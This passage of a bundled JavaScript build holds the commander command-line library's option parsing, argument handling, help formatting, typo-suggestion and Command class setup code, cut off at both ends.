   * Return option name.
   *
   * @return {string}
   */
  name() {
    if (this.long) {
      return this.long.replace(/^--/, "");
    }
    return this.short.replace(/^-/, "");
  }
  /**
   * Return option name, in a camelcase format that can be used
   * as an object attribute key.
   *
   * @return {string}
   */
  attributeName() {
    if (this.negate) {
      return camelcase(this.name().replace(/^no-/, ""));
    }
    return camelcase(this.name());
  }
  /**
   * Set the help group heading.
   *
   * @param {string} heading
   * @return {Option}
   */
  helpGroup(heading) {
    this.helpGroupHeading = heading;
    return this;
  }
  /**
   * Check if `arg` matches the short or long flag.
   *
   * @param {string} arg
   * @return {boolean}
   * @package
   */
  is(arg) {
    return this.short === arg || this.long === arg;
  }
  /**
   * Return whether a boolean option.
   *
   * Options are one of boolean, negated, required argument, or optional argument.
   *
   * @return {boolean}
   * @package
   */
  isBoolean() {
    return !this.required && !this.optional && !this.negate;
  }
};
var DualOptions = class {
  /**
   * @param {Option[]} options
   */
  constructor(options) {
    this.positiveOptions = /* @__PURE__ */ new Map();
    this.negativeOptions = /* @__PURE__ */ new Map();
    this.dualOptions = /* @__PURE__ */ new Set();
    options.forEach((option) => {
      if (option.negate) {
        this.negativeOptions.set(option.attributeName(), option);
      } else {
        this.positiveOptions.set(option.attributeName(), option);
      }
    });
    this.negativeOptions.forEach((value, key) => {
      if (this.positiveOptions.has(key)) {
        this.dualOptions.add(key);
      }
    });
  }
  /**
   * Did the value come from the option, and not from possible matching dual option?
   *
   * @param {*} value
   * @param {Option} option
   * @returns {boolean}
   */
  valueFromOption(value, option) {
    const optionKey = option.attributeName();
    if (!this.dualOptions.has(optionKey)) return true;
    const preset = this.negativeOptions.get(optionKey).presetArg;
    const negativeValue = preset !== void 0 ? preset : false;
    return option.negate === (negativeValue === value);
  }
};
function camelcase(str2) {
  return str2.split("-").reduce((str3, word) => {
    return str3 + word[0].toUpperCase() + word.slice(1);
  });
}
function splitOptionFlags(flags) {
  let shortFlag;
  let longFlag;
  const shortFlagExp = /^-[^-]$/;
  const longFlagExp = /^--[^-]/;
  const flagParts = flags.split(/[ |,]+/).concat("guard");
  if (shortFlagExp.test(flagParts[0])) shortFlag = flagParts.shift();
  if (longFlagExp.test(flagParts[0])) longFlag = flagParts.shift();
  if (!shortFlag && shortFlagExp.test(flagParts[0]))
    shortFlag = flagParts.shift();
  if (!shortFlag && longFlagExp.test(flagParts[0])) {
    shortFlag = longFlag;
    longFlag = flagParts.shift();
  }
  if (flagParts[0].startsWith("-")) {
    const unsupportedFlag = flagParts[0];
    const baseError = `option creation failed due to '${unsupportedFlag}' in option flags '${flags}'`;
    if (/^-[^-][^-]/.test(unsupportedFlag))
      throw new Error(
        `${baseError}
- a short flag is a single dash and a single character
  - either use a single dash and a single character (for a short flag)
  - or use a double dash for a long option (and can have two, like '--ws, --workspace')`
      );
    if (shortFlagExp.test(unsupportedFlag))
      throw new Error(`${baseError}
- too many short flags`);
    if (longFlagExp.test(unsupportedFlag))
      throw new Error(`${baseError}
- too many long flags`);
    throw new Error(`${baseError}
- unrecognised flag format`);
  }
  if (shortFlag === void 0 && longFlag === void 0)
    throw new Error(
      `option creation failed due to no flags found in '${flags}'.`
    );
  return { shortFlag, longFlag };
}

// node_modules/.pnpm/commander@15.1.0/node_modules/commander/lib/command.js
import { EventEmitter } from "node:events";
import childProcess from "node:child_process";
import path from "node:path";
import fs from "node:fs";
import process2 from "node:process";
import { stripVTControlCharacters as stripVTControlCharacters2 } from "node:util";

// node_modules/.pnpm/commander@15.1.0/node_modules/commander/lib/argument.js
var Argument = class {
  /**
   * Initialize a new command argument with the given name and description.
   * The default is that the argument is required, and you can explicitly
   * indicate this with <> around the name. Put [] around the name for an optional argument.
   *
   * @param {string} name
   * @param {string} [description]
   */
  constructor(name, description) {
    this.description = description || "";
    this.variadic = false;
    this.parseArg = void 0;
    this.defaultValue = void 0;
    this.defaultValueDescription = void 0;
    this.argChoices = void 0;
    switch (name[0]) {
      case "<":
        this.required = true;
        this._name = name.slice(1, -1);
        break;
      case "[":
        this.required = false;
        this._name = name.slice(1, -1);
        break;
      default:
        this.required = true;
        this._name = name;
        break;
    }
    if (this._name.endsWith("...")) {
      this.variadic = true;
      this._name = this._name.slice(0, -3);
    }
  }
  /**
   * Return argument name.
   *
   * @return {string}
   */
  name() {
    return this._name;
  }
  /**
   * @package
   */
  _collectValue(value, previous) {
    if (previous === this.defaultValue || !Array.isArray(previous)) {
      return [value];
    }
    previous.push(value);
    return previous;
  }
  /**
   * Set the default value, and optionally supply the description to be displayed in the help.
   *
   * @param {*} value
   * @param {string} [description]
   * @return {Argument}
   */
  default(value, description) {
    this.defaultValue = value;
    this.defaultValueDescription = description;
    return this;
  }
  /**
   * Set the custom handler for processing CLI command arguments into argument values.
   *
   * @param {Function} [fn]
   * @return {Argument}
   */
  argParser(fn2) {
    this.parseArg = fn2;
    return this;
  }
  /**
   * Only allow argument value to be one of choices.
   *
   * @param {string[]} values
   * @return {Argument}
   */
  choices(values) {
    this.argChoices = values.slice();
    this.parseArg = (arg, previous) => {
      if (!this.argChoices.includes(arg)) {
        throw new InvalidArgumentError(
          `Allowed choices are ${this.argChoices.join(", ")}.`
        );
      }
      if (this.variadic) {
        return this._collectValue(arg, previous);
      }
      return arg;
    };
    return this;
  }
  /**
   * Make argument required.
   *
   * @returns {Argument}
   */
  argRequired() {
    this.required = true;
    return this;
  }
  /**
   * Make argument optional.
   *
   * @returns {Argument}
   */
  argOptional() {
    this.required = false;
    return this;
  }
};
function humanReadableArgName(arg) {
  const nameOutput = arg.name() + (arg.variadic === true ? "..." : "");
  return arg.required ? "<" + nameOutput + ">" : "[" + nameOutput + "]";
}

// node_modules/.pnpm/commander@15.1.0/node_modules/commander/lib/help.js
import { stripVTControlCharacters } from "node:util";
var Help = class {
  constructor() {
    this.helpWidth = void 0;
    this.minWidthToWrap = 40;
    this.sortSubcommands = false;
    this.sortOptions = false;
    this.showGlobalOptions = false;
  }
  /**
   * prepareContext is called by Commander after applying overrides from `Command.configureHelp()`
   * and just before calling `formatHelp()`.
   *
   * Commander just uses the helpWidth and the rest is provided for optional use by more complex subclasses.
   *
   * @param {{ error?: boolean, helpWidth?: number, outputHasColors?: boolean }} contextOptions
   */
  prepareContext(contextOptions) {
    this.helpWidth = this.helpWidth ?? contextOptions.helpWidth ?? 80;
  }
  /**
   * Get an array of the visible subcommands. Includes a placeholder for the implicit help command, if there is one.
   *
   * @param {Command} cmd
   * @returns {Command[]}
   */
  visibleCommands(cmd) {
    const visibleCommands = cmd.commands.filter((cmd2) => !cmd2._hidden);
    const helpCommand = cmd._getHelpCommand();
    if (helpCommand && !helpCommand._hidden) {
      visibleCommands.push(helpCommand);
    }
    if (this.sortSubcommands) {
      visibleCommands.sort((a, b) => {
        return a.name().localeCompare(b.name());
      });
    }
    return visibleCommands;
  }
  /**
   * Compare options for sort.
   *
   * @param {Option} a
   * @param {Option} b
   * @returns {number}
   */
  compareOptions(a, b) {
    const getSortKey = (option) => {
      return option.short ? option.short.replace(/^-/, "") : option.long.replace(/^--/, "");
    };
    return getSortKey(a).localeCompare(getSortKey(b));
  }
  /**
   * Get an array of the visible options. Includes a placeholder for the implicit help option, if there is one.
   *
   * @param {Command} cmd
   * @returns {Option[]}
   */
  visibleOptions(cmd) {
    const visibleOptions = cmd.options.filter((option) => !option.hidden);
    const helpOption = cmd._getHelpOption();
    if (helpOption && !helpOption.hidden) {
      const removeShort = helpOption.short && cmd._findOption(helpOption.short);
      const removeLong = helpOption.long && cmd._findOption(helpOption.long);
      if (!removeShort && !removeLong) {
        visibleOptions.push(helpOption);
      } else if (helpOption.long && !removeLong) {
        visibleOptions.push(
          cmd.createOption(helpOption.long, helpOption.description).helpGroup(helpOption.helpGroupHeading)
        );
      } else if (helpOption.short && !removeShort) {
        visibleOptions.push(
          cmd.createOption(helpOption.short, helpOption.description).helpGroup(helpOption.helpGroupHeading)
        );
      }
    }
    if (this.sortOptions) {
      visibleOptions.sort(this.compareOptions);
    }
    return visibleOptions;
  }
  /**
   * Get an array of the visible global options. (Not including help.)
   *
   * @param {Command} cmd
   * @returns {Option[]}
   */
  visibleGlobalOptions(cmd) {
    if (!this.showGlobalOptions) return [];
    const globalOptions = [];
    for (let ancestorCmd = cmd.parent; ancestorCmd; ancestorCmd = ancestorCmd.parent) {
      const visibleOptions = ancestorCmd.options.filter(
        (option) => !option.hidden
      );
      globalOptions.push(...visibleOptions);
    }
    if (this.sortOptions) {
      globalOptions.sort(this.compareOptions);
    }
    return globalOptions;
  }
  /**
   * Get an array of the arguments if any have a description.
   *
   * @param {Command} cmd
   * @returns {Argument[]}
   */
  visibleArguments(cmd) {
    if (cmd._argsDescription) {
      cmd.registeredArguments.forEach((argument) => {
        argument.description = argument.description || cmd._argsDescription[argument.name()] || "";
      });
    }
    if (cmd.registeredArguments.find((argument) => argument.description)) {
      return cmd.registeredArguments;
    }
    return [];
  }
  /**
   * Get the command term to show in the list of subcommands.
   *
   * @param {Command} cmd
   * @returns {string}
   */
  subcommandTerm(cmd) {
    const args = cmd.registeredArguments.map((arg) => humanReadableArgName(arg)).join(" ");
    return cmd._name + (cmd._aliases[0] ? "|" + cmd._aliases[0] : "") + (cmd.options.length ? " [options]" : "") + // simplistic check for non-help option
    (args ? " " + args : "");
  }
  /**
   * Get the option term to show in the list of options.
   *
   * @param {Option} option
   * @returns {string}
   */
  optionTerm(option) {
    return option.flags;
  }
  /**
   * Get the argument term to show in the list of arguments.
   *
   * @param {Argument} argument
   * @returns {string}
   */
  argumentTerm(argument) {
    return argument.name();
  }
  /**
   * Get the longest command term length.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {number}
   */
  longestSubcommandTermLength(cmd, helper) {
    return helper.visibleCommands(cmd).reduce((max, command) => {
      return Math.max(
        max,
        this.displayWidth(
          helper.styleSubcommandTerm(helper.subcommandTerm(command))
        )
      );
    }, 0);
  }
  /**
   * Get the longest option term length.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {number}
   */
  longestOptionTermLength(cmd, helper) {
    return helper.visibleOptions(cmd).reduce((max, option) => {
      return Math.max(
        max,
        this.displayWidth(helper.styleOptionTerm(helper.optionTerm(option)))
      );
    }, 0);
  }
  /**
   * Get the longest global option term length.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {number}
   */
  longestGlobalOptionTermLength(cmd, helper) {
    return helper.visibleGlobalOptions(cmd).reduce((max, option) => {
      return Math.max(
        max,
        this.displayWidth(helper.styleOptionTerm(helper.optionTerm(option)))
      );
    }, 0);
  }
  /**
   * Get the longest argument term length.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {number}
   */
  longestArgumentTermLength(cmd, helper) {
    return helper.visibleArguments(cmd).reduce((max, argument) => {
      return Math.max(
        max,
        this.displayWidth(
          helper.styleArgumentTerm(helper.argumentTerm(argument))
        )
      );
    }, 0);
  }
  /**
   * Get the command usage to be displayed at the top of the built-in help.
   *
   * @param {Command} cmd
   * @returns {string}
   */
  commandUsage(cmd) {
    let cmdName = cmd._name;
    if (cmd._aliases[0]) {
      cmdName = cmdName + "|" + cmd._aliases[0];
    }
    let ancestorCmdNames = "";
    for (let ancestorCmd = cmd.parent; ancestorCmd; ancestorCmd = ancestorCmd.parent) {
      ancestorCmdNames = ancestorCmd.name() + " " + ancestorCmdNames;
    }
    return ancestorCmdNames + cmdName + " " + cmd.usage();
  }
  /**
   * Get the description for the command.
   *
   * @param {Command} cmd
   * @returns {string}
   */
  commandDescription(cmd) {
    return cmd.description();
  }
  /**
   * Get the subcommand summary to show in the list of subcommands.
   * (Fallback to description for backwards compatibility.)
   *
   * @param {Command} cmd
   * @returns {string}
   */
  subcommandDescription(cmd) {
    return cmd.summary() || cmd.description();
  }
  /**
   * Get the option description to show in the list of options.
   *
   * @param {Option} option
   * @return {string}
   */
  optionDescription(option) {
    const extraInfo = [];
    if (option.argChoices) {
      extraInfo.push(
        // use stringify to match the display of the default value
        `choices: ${option.argChoices.map((choice) => JSON.stringify(choice)).join(", ")}`
      );
    }
    if (option.defaultValue !== void 0) {
      const showDefault = option.required || option.optional || option.isBoolean() && typeof option.defaultValue === "boolean";
      if (showDefault) {
        extraInfo.push(
          `default: ${option.defaultValueDescription || JSON.stringify(option.defaultValue)}`
        );
      }
    }
    if (option.presetArg !== void 0 && option.optional) {
      extraInfo.push(`preset: ${JSON.stringify(option.presetArg)}`);
    }
    if (option.envVar !== void 0) {
      extraInfo.push(`env: ${option.envVar}`);
    }
    if (extraInfo.length > 0) {
      const extraDescription = `(${extraInfo.join(", ")})`;
      if (option.description) {
        return `${option.description} ${extraDescription}`;
      }
      return extraDescription;
    }
    return option.description;
  }
  /**
   * Get the argument description to show in the list of arguments.
   *
   * @param {Argument} argument
   * @return {string}
   */
  argumentDescription(argument) {
    const extraInfo = [];
    if (argument.argChoices) {
      extraInfo.push(
        // use stringify to match the display of the default value
        `choices: ${argument.argChoices.map((choice) => JSON.stringify(choice)).join(", ")}`
      );
    }
    if (argument.defaultValue !== void 0) {
      extraInfo.push(
        `default: ${argument.defaultValueDescription || JSON.stringify(argument.defaultValue)}`
      );
    }
    if (extraInfo.length > 0) {
      const extraDescription = `(${extraInfo.join(", ")})`;
      if (argument.description) {
        return `${argument.description} ${extraDescription}`;
      }
      return extraDescription;
    }
    return argument.description;
  }
  /**
   * Format a list of items, given a heading and an array of formatted items.
   *
   * @param {string} heading
   * @param {string[]} items
   * @param {Help} helper
   * @returns string[]
   */
  formatItemList(heading, items, helper) {
    if (items.length === 0) return [];
    return [helper.styleTitle(heading), ...items, ""];
  }
  /**
   * Group items by their help group heading.
   *
   * @param {Command[] | Option[]} unsortedItems
   * @param {Command[] | Option[]} visibleItems
   * @param {Function} getGroup
   * @returns {Map<string, Command[] | Option[]>}
   */
  groupItems(unsortedItems, visibleItems, getGroup) {
    const result = /* @__PURE__ */ new Map();
    unsortedItems.forEach((item) => {
      const group = getGroup(item);
      if (!result.has(group)) result.set(group, []);
    });
    visibleItems.forEach((item) => {
      const group = getGroup(item);
      if (!result.has(group)) {
        result.set(group, []);
      }
      result.get(group).push(item);
    });
    return result;
  }
  /**
   * Generate the built-in help text.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {string}
   */
  formatHelp(cmd, helper) {
    const termWidth = helper.padWidth(cmd, helper);
    const helpWidth = helper.helpWidth ?? 80;
    function callFormatItem(term, description) {
      return helper.formatItem(term, termWidth, description, helper);
    }
    let output = [
      `${helper.styleTitle("Usage:")} ${helper.styleUsage(helper.commandUsage(cmd))}`,
      ""
    ];
    const commandDescription = helper.commandDescription(cmd);
    if (commandDescription.length > 0) {
      output = output.concat([
        helper.boxWrap(
          helper.styleCommandDescription(commandDescription),
          helpWidth
        ),
        ""
      ]);
    }
    const argumentList = helper.visibleArguments(cmd).map((argument) => {
      return callFormatItem(
        helper.styleArgumentTerm(helper.argumentTerm(argument)),
        helper.styleArgumentDescription(helper.argumentDescription(argument))
      );
    });
    output = output.concat(
      this.formatItemList("Arguments:", argumentList, helper)
    );
    const optionGroups = this.groupItems(
      cmd.options,
      helper.visibleOptions(cmd),
      (option) => option.helpGroupHeading ?? "Options:"
    );
    optionGroups.forEach((options, group) => {
      const optionList = options.map((option) => {
        return callFormatItem(
          helper.styleOptionTerm(helper.optionTerm(option)),
          helper.styleOptionDescription(helper.optionDescription(option))
        );
      });
      output = output.concat(this.formatItemList(group, optionList, helper));
    });
    if (helper.showGlobalOptions) {
      const globalOptionList = helper.visibleGlobalOptions(cmd).map((option) => {
        return callFormatItem(
          helper.styleOptionTerm(helper.optionTerm(option)),
          helper.styleOptionDescription(helper.optionDescription(option))
        );
      });
      output = output.concat(
        this.formatItemList("Global Options:", globalOptionList, helper)
      );
    }
    const commandGroups = this.groupItems(
      cmd.commands,
      helper.visibleCommands(cmd),
      (sub) => sub.helpGroup() || "Commands:"
    );
    commandGroups.forEach((commands, group) => {
      const commandList = commands.map((sub) => {
        return callFormatItem(
          helper.styleSubcommandTerm(helper.subcommandTerm(sub)),
          helper.styleSubcommandDescription(helper.subcommandDescription(sub))
        );
      });
      output = output.concat(this.formatItemList(group, commandList, helper));
    });
    return output.join("\n");
  }
  /**
   * Return display width of string, ignoring ANSI escape sequences. Used in padding and wrapping calculations.
   *
   * @param {string} str
   * @returns {number}
   */
  displayWidth(str2) {
    return stripVTControlCharacters(str2).length;
  }
  /**
   * Style the title for displaying in the help. Called with 'Usage:', 'Options:', etc.
   *
   * @param {string} str
   * @returns {string}
   */
  styleTitle(str2) {
    return str2;
  }
  styleUsage(str2) {
    return str2.split(" ").map((word) => {
      if (word === "[options]") return this.styleOptionText(word);
      if (word === "[command]") return this.styleSubcommandText(word);
      if (word[0] === "[" || word[0] === "<")
        return this.styleArgumentText(word);
      return this.styleCommandText(word);
    }).join(" ");
  }
  styleCommandDescription(str2) {
    return this.styleDescriptionText(str2);
  }
  styleOptionDescription(str2) {
    return this.styleDescriptionText(str2);
  }
  styleSubcommandDescription(str2) {
    return this.styleDescriptionText(str2);
  }
  styleArgumentDescription(str2) {
    return this.styleDescriptionText(str2);
  }
  styleDescriptionText(str2) {
    return str2;
  }
  styleOptionTerm(str2) {
    return this.styleOptionText(str2);
  }
  styleSubcommandTerm(str2) {
    return str2.split(" ").map((word) => {
      if (word === "[options]") return this.styleOptionText(word);
      if (word[0] === "[" || word[0] === "<")
        return this.styleArgumentText(word);
      return this.styleSubcommandText(word);
    }).join(" ");
  }
  styleArgumentTerm(str2) {
    return this.styleArgumentText(str2);
  }
  styleOptionText(str2) {
    return str2;
  }
  styleArgumentText(str2) {
    return str2;
  }
  styleSubcommandText(str2) {
    return str2;
  }
  styleCommandText(str2) {
    return str2;
  }
  /**
   * Calculate the pad width from the maximum term length.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {number}
   */
  padWidth(cmd, helper) {
    return Math.max(
      helper.longestOptionTermLength(cmd, helper),
      helper.longestGlobalOptionTermLength(cmd, helper),
      helper.longestSubcommandTermLength(cmd, helper),
      helper.longestArgumentTermLength(cmd, helper)
    );
  }
  /**
   * Detect manually wrapped and indented strings by checking for line break followed by whitespace.
   *
   * @param {string} str
   * @returns {boolean}
   */
  preformatted(str2) {
    return /\n[^\S\r\n]/.test(str2);
  }
  /**
   * Format the "item", which consists of a term and description. Pad the term and wrap the description, indenting the following lines.
   *
   * So "TTT", 5, "DDD DDDD DD DDD" might be formatted for this.helpWidth=17 like so:
   *   TTT  DDD DDDD
   *        DD DDD
   *
   * @param {string} term
   * @param {number} termWidth
   * @param {string} description
   * @param {Help} helper
   * @returns {string}
   */
  formatItem(term, termWidth, description, helper) {
    const itemIndent = 2;
    const itemIndentStr = " ".repeat(itemIndent);
    if (!description) return itemIndentStr + term;
    const paddedTerm = term.padEnd(
      termWidth + term.length - helper.displayWidth(term)
    );
    const spacerWidth = 2;
    const helpWidth = this.helpWidth ?? 80;
    const remainingWidth = helpWidth - termWidth - spacerWidth - itemIndent;
    let formattedDescription;
    if (remainingWidth < this.minWidthToWrap || helper.preformatted(description)) {
      formattedDescription = description;
    } else {
      const wrappedDescription = helper.boxWrap(description, remainingWidth);
      formattedDescription = wrappedDescription.replace(
        /\n/g,
        "\n" + " ".repeat(termWidth + spacerWidth)
      );
    }
    return itemIndentStr + paddedTerm + " ".repeat(spacerWidth) + formattedDescription.replace(/\n/g, `
${itemIndentStr}`);
  }
  /**
   * Wrap a string at whitespace, preserving existing line breaks.
   * Wrapping is skipped if the width is less than `minWidthToWrap`.
   *
   * @param {string} str
   * @param {number} width
   * @returns {string}
   */
  boxWrap(str2, width) {
    if (width < this.minWidthToWrap) return str2;
    const rawLines = str2.split(/\r\n|\n/);
    const chunkPattern = /[\s]*[^\s]+/g;
    const wrappedLines = [];
    rawLines.forEach((line) => {
      const chunks = line.match(chunkPattern);
      if (chunks === null) {
        wrappedLines.push("");
        return;
      }
      let sumChunks = [chunks.shift()];
      let sumWidth = this.displayWidth(sumChunks[0]);
      chunks.forEach((chunk) => {
        const visibleWidth = this.displayWidth(chunk);
        if (sumWidth + visibleWidth <= width) {
          sumChunks.push(chunk);
          sumWidth += visibleWidth;
          return;
        }
        wrappedLines.push(sumChunks.join(""));
        const nextChunk = chunk.trimStart();
        sumChunks = [nextChunk];
        sumWidth = this.displayWidth(nextChunk);
      });
      wrappedLines.push(sumChunks.join(""));
    });
    return wrappedLines.join("\n");
  }
};

// node_modules/.pnpm/commander@15.1.0/node_modules/commander/lib/suggestSimilar.js
var maxDistance = 3;
function editDistance(a, b) {
  if (Math.abs(a.length - b.length) > maxDistance)
    return Math.max(a.length, b.length);
  const d = [];
  for (let i = 0; i <= a.length; i++) {
    d[i] = [i];
  }
  for (let j = 0; j <= b.length; j++) {
    d[0][j] = j;
  }
  for (let j = 1; j <= b.length; j++) {
    for (let i = 1; i <= a.length; i++) {
      let cost;
      if (a[i - 1] === b[j - 1]) {
        cost = 0;
      } else {
        cost = 1;
      }
      d[i][j] = Math.min(
        d[i - 1][j] + 1,
        // deletion
        d[i][j - 1] + 1,
        // insertion
        d[i - 1][j - 1] + cost
        // substitution
      );
      if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1]) {
        d[i][j] = Math.min(d[i][j], d[i - 2][j - 2] + 1);
      }
    }
  }
  return d[a.length][b.length];
}
function suggestSimilar(word, candidates2) {
  if (!candidates2 || candidates2.length === 0) return "";
  candidates2 = Array.from(new Set(candidates2));
  const searchingOptions = word.startsWith("--");
  if (searchingOptions) {
    word = word.slice(2);
    candidates2 = candidates2.map((candidate) => candidate.slice(2));
  }
  let similar = [];
  let bestDistance = maxDistance;
  const minSimilarity = 0.4;
  candidates2.forEach((candidate) => {
    if (candidate.length <= 1) return;
    const distance = editDistance(word, candidate);
    const length = Math.max(word.length, candidate.length);
    const similarity = (length - distance) / length;
    if (similarity > minSimilarity) {
      if (distance < bestDistance) {
        bestDistance = distance;
        similar = [candidate];
      } else if (distance === bestDistance) {
        similar.push(candidate);
      }
    }
  });
  similar.sort((a, b) => a.localeCompare(b));
  if (searchingOptions) {
    similar = similar.map((candidate) => `--${candidate}`);
  }
  if (similar.length > 1) {
    return `
(Did you mean one of ${similar.join(", ")}?)`;
  }
  if (similar.length === 1) {
    return `
(Did you mean ${similar[0]}?)`;
  }
  return "";
}

// node_modules/.pnpm/commander@15.1.0/node_modules/commander/lib/command.js
var Command = class _Command extends EventEmitter {
  /**
   * Initialize a new `Command`.
   *
   * @param {string} [name]
   */
  constructor(name) {
    super();
    this.commands = [];
    this.options = [];
    this.parent = null;
    this._allowUnknownOption = false;
    this._allowExcessArguments = false;
    this.registeredArguments = [];
    this._args = this.registeredArguments;
    this.args = [];
    this.rawArgs = [];
    this.processedArgs = [];
    this._scriptPath = null;
    this._name = name || "";
    this._optionValues = {};
    this._optionValueSources = {};
    this._storeOptionsAsProperties = false;
    this._actionHandler = null;
    this._executableHandler = false;
    this._executableFile = null;
    this._executableDir = null;
    this._defaultCommandName = null;
    this._exitCallback = null;
    this._aliases = [];
    this._combineFlagAndOptionalValue = true;
    this._description = "";
    this._summary = "";
    this._argsDescription = void 0;
    this._enablePositionalOptions = false;
    this._passThroughOptions = false;
    this._lifeCycleHooks = {};
    this._showHelpAfterError = false;
    this._showSuggestionAfterError = true;
    this._savedState = null;
    this._outputConfiguration = {
      writeOut: (str2) => process2.stdout.write(str2),
      writeErr: (str2) => process2.stderr.write(str2),
      outputError: (str2, write) => write(str2),
      getOutHelpWidth: () => process2.stdout.isTTY ? process2.stdout.columns : void 0,
      getErrHelpWidth: () => process2.stderr.isTTY ? process2.stderr.columns : void 0,
      getOutHasColors: () => useColor() ?? (process2.stdout.isTTY && process2.stdout.hasColors?.()),
      getErrHasColors: () => useColor() ?? (process2.stderr.isTTY && process2.stderr.hasColors?.()),
      stripColor: (str2) => stripVTControlCharacters2(str2)
    };
    this._hidden = false;
    this._helpOption = void 0;
    this._addImplicitHelpCommand = void 0;
    this._helpCommand = void 0;
    this._helpConfiguration = {};
    this._helpGroupHeading = void 0;
    this._defaultCommandGroup = void 0;
    this._defaultOptionGroup = void 0;
  }
  /**
   * Copy settings that are useful to have in common across root command and subcommands.
   *
   * (Used internally when adding a command using `.command()` so subcommands inherit parent settings.)
   *
   * @param {Command} sourceCommand
   * @return {Command} `this` command for chaining
   */
  copyInheritedSettings(sourceCommand) {
    this._outputConfiguration = sourceCommand._outputConfiguration;
    this._helpOption = sourceCommand._helpOption;
    this._helpCommand = sourceCommand._helpCommand;
    this._helpConfiguration = sourceCommand._helpConfiguration;
    this._exitCallback = sourceCommand._exitCallback;
    this._storeOptionsAsProperties = sourceCommand._storeOptionsAsProperties;
    this._combineFlagAndOptionalValue = sourceCommand._combineFlagAndOptionalValue;
    this._allowExcessArguments = sourceCommand._allowExcessArguments;
    this._enablePositionalOptions = sourceCommand._enablePositionalOptions;
    this._showHelpAfterError = sourceCommand._showHelpAfterError;
    this._showSuggestionAfterError = sourceCommand._showSuggestionAfterError;
    return this;
  }
  /**
   * @returns {Command[]}
   * @private
   */
  _getCommandAndAncestors() {
    const result = [];
    for (let command = this; command; command = command.parent) {
      result.push(command);
    }
    return result;
  }
  /**
   * Define a command.
   *
   * There are two styles of command: pay attention to where to put the description.
   *
   * @example
   * // Command implemented using action handler (description is supplied separately to `.command`)
   * program
   *   .command('clone <source> [destination]')
   *   .description('clone a repository into a newly created directory')
   *   .action((source, destination) => {
   *     console.log('clone command called');
   *   });
   *
   * // Command implemented using separate executable file (description is second parameter to `.command`)
   * program
   *   .command('start <service>', 'start named service')
   *   .command('stop [service]', 'stop named service, or all if no name supplied');
   *
   * @param {string} nameAndArgs - command name and arguments, args are `<required>` or `[optional]` and last may also be `variadic...`
   * @param {(object | string)} [actionOptsOrExecDesc] - configuration options (for action), or description (for executable)
   * @param {object} [execOpts] - configuration options (for executable)
   * @return {Command} returns new command for action handler, or `this` for executable command
   */
  command(nameAndArgs, actionOptsOrExecDesc, execOpts) {
    let desc = actionOptsOrExecDesc;
    let opts = execOpts;
    if (typeof desc === "object" && desc !== null) {
      opts = desc;
      desc = null;
    }
    opts = opts || {};
    const [, name, args] = nameAndArgs.match(/([^ ]+) *(.*)/);
    const cmd = this.createCommand(name);
    if (desc) {
      cmd.description(desc);
      cmd._executableHandler = true;
    }
    if (opts.isDefault) this._defaultCommandName = cmd._name;
    cmd._hidden = !!(opts.noHelp || opts.hidden);
    cmd._executableFile = opts.executableFile || null;
    if (args) cmd.arguments(args);
    this._registerCommand(cmd);
    cmd.parent = this;
    cmd.copyInheritedSettings(this);
    if (desc) return this;
    return cmd;
  }
  /**
   * Factory routine to create a new unattached command.
   *
   * See .command() for creating an attached subcommand, which uses this routine to
   * create the command. You can override createCommand to customise subcommands.
   *
   * @param {string} [name]
   * @return {Command} new command
   */
  createCommand(name) {
    return new _Command(name);
  }
  /**
   * You can customise the help with a subclass of Help by overriding createHelp,
   * or by overriding Help properties using configureHelp().
   *
   * @return {Help}
   */
  createHelp() {
    return Object.assign(new Help(), this.configureHelp());
  }
  /**
   * You can customise the help by overriding Help properties using configureHelp(),
   * or with a subclass of Help by overriding createHelp().
   *
   * @param {object} [configuration] - configuration options
   * @return {(Command | object)} `this` command for chaining, or stored configuration
   */
  configureHelp(configuration) {
    if (configuration === void 0) return this._helpConfiguration;
    this._helpConfiguration = configuration;
    return this;
  }
  /**
   * The default output goes to stdout and stderr. You can customise this for special
   * applications. You can also customise the display of errors by overriding outputError.
   *
   * The configuration properties are all functions:
   *
   *     // change how output being written, defaults to stdout and stderr
   *     writeOut(str)
   *     writeErr(str)
   *     // change how output being written for errors, defaults to writeErr
   *     outputError(str, write) // used for displaying errors and not used for displaying help
   *     // specify width for wrapping help
   *     getOutHelpWidth()
   *     getErrHelpWidth()
   *     // color support, currently only used with Help
   *     getOutHasColors()
   *     getErrHasColors()
   *     stripColor() // used to remove ANSI escape codes if output does not have colors
   *
   * @param {object} [configuration] - configuration options
   * @return {(Command | object)} `this` command for chaining, or stored configuration
   */
  configureOutput(configuration) {
    if (configuration === void 0) return this._outputConfiguration;
    this._outputConfiguration = {
      ...this._outputConfiguration,
      ...configuration
    };
    return this;
  }
  /**
   * Display the help or a custom message after an error occurs.
   *
   * @param {(boolean|string)} [displayHelp]
   * @return {Command} `this` command for chaining
   */
  showHelpAfterError(displayHelp = true) {
    if (typeof displayHelp !== "string") displayHelp = !!displayHelp;
    this._showHelpAfterError = displayHelp;
    return this;
  }
  /**
   * Display suggestion of similar commands for unknown commands, or options for unknown options.
   *
   * @param {boolean} [displaySuggestion]
   * @return {Command} `this` command for chaining
   */
  showSuggestionAfterError(displaySuggestion = true) {
    this._showSuggestionAfterError = !!displaySuggestion;
    return this;
  }
  /**
   * Add a prepared subcommand.
   *
   * See .command() for creating an attached subcommand which inherits settings from its parent.
   *
   * @param {Command} cmd - new subcommand
   * @param {object} [opts] - configuration options
   * @return {Command} `this` command for chaining
   */
  addCommand(cmd, opts) {
    if (!cmd._name) {
      throw new Error(`Command passed to .addCommand() must have a name
- specify the name in Command constructor or using .name()`);
    }
    opts = opts || {};
    if (opts.isDefault) this._defaultCommandName = cmd._name;
    if (opts.noHelp || opts.hidden) cmd._hidden = true;
    this._registerCommand(cmd);
    cmd.parent = this;
    cmd._checkForBrokenPassThrough();
    return this;
  }
  /**
   * Factory routine to create a new unattached argument.
   *
   * See .argument() for creating an attached argument, which uses this routine to
   * create the argument. You can override createArgument to return a custom argument.
   *
   * @param {string} name
   * @param {string} [description]
   * @return {Argument} new argument
   */
  createArgument(name, description) {
    return new Argument(name, description);
  }
  /**
   * Define argument syntax for command.
   *
   * The default is that the argument is required, and you can explicitly
